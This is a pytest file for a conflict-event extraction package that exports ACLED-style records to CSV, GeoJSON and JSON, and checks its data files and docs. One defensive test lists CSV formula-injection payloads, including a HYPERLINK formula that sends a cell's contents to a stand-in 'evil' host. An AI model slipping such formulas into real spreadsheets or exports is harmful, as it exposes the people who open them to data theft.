"""Writing extractions: JSON keeps everything, CSV and GeoJSON hold events; the event data and docs."""

import csv
import io
import json
import re
from dataclasses import fields
from importlib.resources import files
from pathlib import Path

import pytest

from geodata.cli import main
from geodata.counting import counted
from geodata.io.export import ACLED_COLUMNS, CSV_COLUMNS, dumps, to_csv, to_geojson
from geodata.models import Event
from geodata.pipeline import extract
from geodata.events.cues import AFTER_EVENT, NEEDS_FIGURE

ROOT = Path(__file__).resolve().parents[2]
EVENT_FIELDS = [f.name for f in fields(Event)]


@pytest.fixture(scope="module")
def result():
    return extract([ROOT / "seeds"])


def test_csv_columns_are_acleds_then_ours():
    assert CSV_COLUMNS[:17] == (
        "event_id", "event_date", "year", "time_precision", "event_type", "sub_event_type", "actor1", "actor2",
        "country", "admin1", "location", "latitude", "longitude", "geo_precision", "source", "notes", "fatalities")
    assert ACLED_COLUMNS == CSV_COLUMNS[:17]
    assert CSV_COLUMNS[17:] == tuple(name for name in EVENT_FIELDS if name not in ACLED_COLUMNS)
    assert set(CSV_COLUMNS) == {*EVENT_FIELDS, "year"}


def test_csv_has_one_row_per_event(result):
    rows = list(csv.DictReader(io.StringIO(to_csv(result))))
    assert len(rows) == len(result.events) > 0
    for row, event in zip(rows, result.events):
        assert row["event_id"] == event.event_id
        assert row["year"] == event.event_date[:4]
        assert row["sentence"] == event.sentence
        assert float(row["latitude"]) == event.latitude
        assert row["killed_low"] == ("" if event.killed_low is None else str(event.killed_low))


def test_geojson_is_a_feature_per_event_with_the_record_as_properties(result):
    data = to_geojson(result)
    assert data["type"] == "FeatureCollection"
    # Each killing counted once over the features (geodata.counting.counted): the sum is the headline's.
    assert [f["properties"] for f in data["features"]] == [e.to_dict() for e in counted(result.events)]
    assert [f["geometry"] for f in data["features"]] == [
        {"type": "Point", "coordinates": [e.longitude, e.latitude]} for e in result.events]


def test_json_keeps_articles_mentions_events_and_errors(result):
    data = json.loads(dumps(result, "json"))
    assert sorted(data) == ["articles", "errors", "events", "mentions"]
    assert data["events"] == [e.to_dict() for e in result.events]
    assert len(data["mentions"]) == len(result.mentions)


def test_cli_csv_writes_events(tmp_path, capsys):
    target = tmp_path / "events.csv"
    assert main(["extract", str(ROOT / "seeds"), "--format", "csv", "--output", str(target)]) == 0
    rows = list(csv.reader(io.StringIO(target.read_text(encoding="utf-8"))))
    assert tuple(rows[0]) == CSV_COLUMNS
    assert {r[CSV_COLUMNS.index("source")] for r in rows[1:]} == {
        "News Line", "World Socialist Web Site", "Socialist Worker"}
    assert "events" in capsys.readouterr().err


def test_cli_geojson_writes_events(tmp_path, capsys):
    target = tmp_path / "events.geojson"
    assert main(["extract", str(ROOT / "seeds"), "--format", "geojson", "--output", str(target)]) == 0
    data = json.loads(target.read_text(encoding="utf-8"))
    assert {f["properties"]["event_type"] for f in data["features"]} == {
        "Battles", "Explosions/Remote violence", "Protests", "Strategic developments"}


# ---------------------------------------------------------------------------
# Guards for the event data and the docs.
ACLED_TYPES = {
    "Battles": {"Armed clash", "Government regains territory", "Non-state actor overtakes territory"},
    "Explosions/Remote violence": {"Air or drone strike", "Shelling/artillery/missile attack",
                                   "Remote explosive/landmine/IED", "Suicide bomb", "Grenade"},
    "Violence against civilians": {"Attack", "Abduction/forced disappearance", "Sexual violence"},
    "Protests": {"Peaceful protest", "Protest with intervention", "Excessive force against protesters"},
    "Riots": {"Violent demonstration", "Mob violence"},
    "Strategic developments": {"Agreement", "Arrests", "Change to group/activity", "Disrupted weapons use",
                               "Headquarters or base established", "Looting/property destruction",
                               "Non-violent transfer of territory", "Other"},
}


def data_rows(name: str) -> list[dict]:
    text = (files("geodata") / "data" / name).read_text(encoding="utf-8")
    return [r for r in csv.DictReader(io.StringIO(text)) if not next(iter(r.values())).startswith("#")]


def test_every_cue_names_an_acled_type():
    rows = data_rows("event_types.csv")
    assert len(rows) > 100
    cues = [r["cue"].lower() for r in rows]
    assert len(cues) == len(set(cues)), "a cue is listed twice"
    for r in rows:
        assert int(r["priority"]) > 0, r
        if r["event_type"] == "*":
            assert r["sub_event_type"] in ("", NEEDS_FIGURE, AFTER_EVENT), r
        else:
            assert r["sub_event_type"] in ACLED_TYPES[r["event_type"]], r


def test_every_actor_row_is_well_formed():
    rows = data_rows("actors.csv")
    kinds = {"state", "external", "militia", "rebel", "unidentified", "government", "civilians", "protesters",
             "rioters"}
    aliases = [(r["alias"].lower(), r["country"]) for r in rows]
    assert len(aliases) == len(set(aliases)), "an alias is listed twice"
    for r in rows:
        assert r["kind"] in kinds and r["air"] in ("", "air") and r["actor"] and r["alias"], r
        assert r["country"] == "" or (len(r["country"]) == 2 and r["country"].isupper()), r
    # An alias limited to a country also names an actor everywhere else.
    assert {a for a, c in aliases if c} <= {a for a, c in aliases if not c}
    # One kind per actor.
    assert all(len({r["kind"] for r in rows if r["actor"] == name}) == 1 for name in {r["actor"] for r in rows})


def docs_section(page: str, title: str) -> str:
    text = (ROOT / "docs" / page).read_text(encoding="utf-8")
    match = re.search(rf"^## {re.escape(title)}\n(.*?)(?=^## |\Z)", text, re.MULTILINE | re.DOTALL)
    assert match, f"docs/{page} has no '## {title}' section"
    return match.group(1)


def test_docs_document_every_event_field_and_csv_column():
    section = docs_section("data-model.md", "Events")
    first_cells = re.findall(r"^\| ([^|]+) \|", section, re.MULTILINE)
    documented = {name for cell in first_cells for name in re.findall(r"`(\w+)`", cell)}
    assert set(EVENT_FIELDS) | {"year"} <= documented
    for name in ("event_types.csv", "actors.csv", "benchmarks/eval_seeds.py"):
        assert name in section


# -- hostile cells and coordinates -----------------------------------------------------------

def _event(result, **changes):
    from dataclasses import replace

    return replace(result.events[0], **changes)


@pytest.mark.parametrize("cell", ['=HYPERLINK("http://evil/?"&A2,"Reuters")', "+1+1", "-2+3", "@SUM(1+1)",
                                  "\tcalc", "\rcalc"])
def test_csv_neutralises_cells_a_spreadsheet_would_run(result, cell):
    from dataclasses import replace

    hostile = replace(result, events=(_event(result, source=cell, article_id=cell, notes=cell),))
    rows = list(csv.DictReader(io.StringIO(to_csv(hostile))))
    # (A carriage return inside a cell becomes a line feed, so that the cell is quoted.)
    assert [(r["source"], r["article_id"], r["notes"]) for r in rows] == [("'" + cell.replace("\r", "\n"),) * 3]


def test_csv_numbers_stay_numbers(result):
    from dataclasses import replace

    south_west = replace(result, events=(_event(result, latitude=-33.5, longitude=-70.25, killed_low=3),))
    row = next(csv.DictReader(io.StringIO(to_csv(south_west))))
    assert (row["latitude"], row["longitude"], row["killed_low"]) == ("-33.5", "-70.25", "3")


@pytest.mark.parametrize("latitude, longitude", [
    (float("nan"), 44.0), (33.0, float("inf")), ("abc", 44.0), (None, 44.0), (91.0, 44.0), (33.0, -181.0),
])
def test_events_without_valid_coordinates_are_left_out_with_a_note(result, latitude, longitude):
    from dataclasses import replace

    bad = _event(result, latitude=latitude, longitude=longitude)
    mixed = replace(result, events=(bad, *result.events[1:]))
    for fmt in ("json", "geojson"):
        data = json.loads(dumps(mixed, fmt), parse_constant=lambda c: pytest.fail(f"{c} in {fmt}"))
        ids = [e["event_id"] for e in data["events"]] if fmt == "json" else \
            [f["properties"]["event_id"] for f in data["features"]]
        assert ids == [e.event_id for e in result.events[1:]]
    notes = json.loads(dumps(mixed, "json"))["errors"]
    assert [n["path"] for n in notes] == [bad.article_id] and bad.event_id in notes[0]["reason"]
    assert [r["event_id"] for r in csv.DictReader(io.StringIO(to_csv(mixed)))] == \
        [e.event_id for e in result.events[1:]]


def test_a_saved_extraction_with_bad_coordinates_is_read_without_them(result):
    from geodata.io.export import from_json

    saved = json.loads(dumps(result, "json"))
    saved["events"][0]["latitude"] = "not a number"
    saved["events"][1]["longitude"] = float("nan")
    saved["mentions"][0]["latitude"] = 1e400
    read = from_json(saved)
    assert [e.event_id for e in read.events] == [e["event_id"] for e in saved["events"][2:]]
    assert len(read.mentions) == len(saved["mentions"]) - 1
    assert len(read.errors) == 3 and any("not a number" in e.reason for e in read.errors)
    json.loads(dumps(read, "geojson"), parse_constant=lambda c: pytest.fail(c))


def test_write_file_is_atomic_and_names_the_file_when_it_fails(tmp_path):
    from geodata.exc import OutputError
    from geodata.io.export import write_file

    target = tmp_path / "out.json"
    target.write_text("old")
    target.chmod(0o640)
    write_file(target, "new")
    assert target.read_text() == "new" and (target.stat().st_mode & 0o777) == 0o640
    assert [p.name for p in tmp_path.iterdir()] == ["out.json"]  # no temp file left
    for bad, reason in ((tmp_path / "missing" / "x.json", "no directory"), (tmp_path, "directory")):
        with pytest.raises(OutputError, match=reason) as caught:
            write_file(bad, "x")
        assert str(caught.value).startswith(str(bad)) and "\n" not in str(caught.value)
    assert [p.name for p in tmp_path.iterdir()] == ["out.json"]
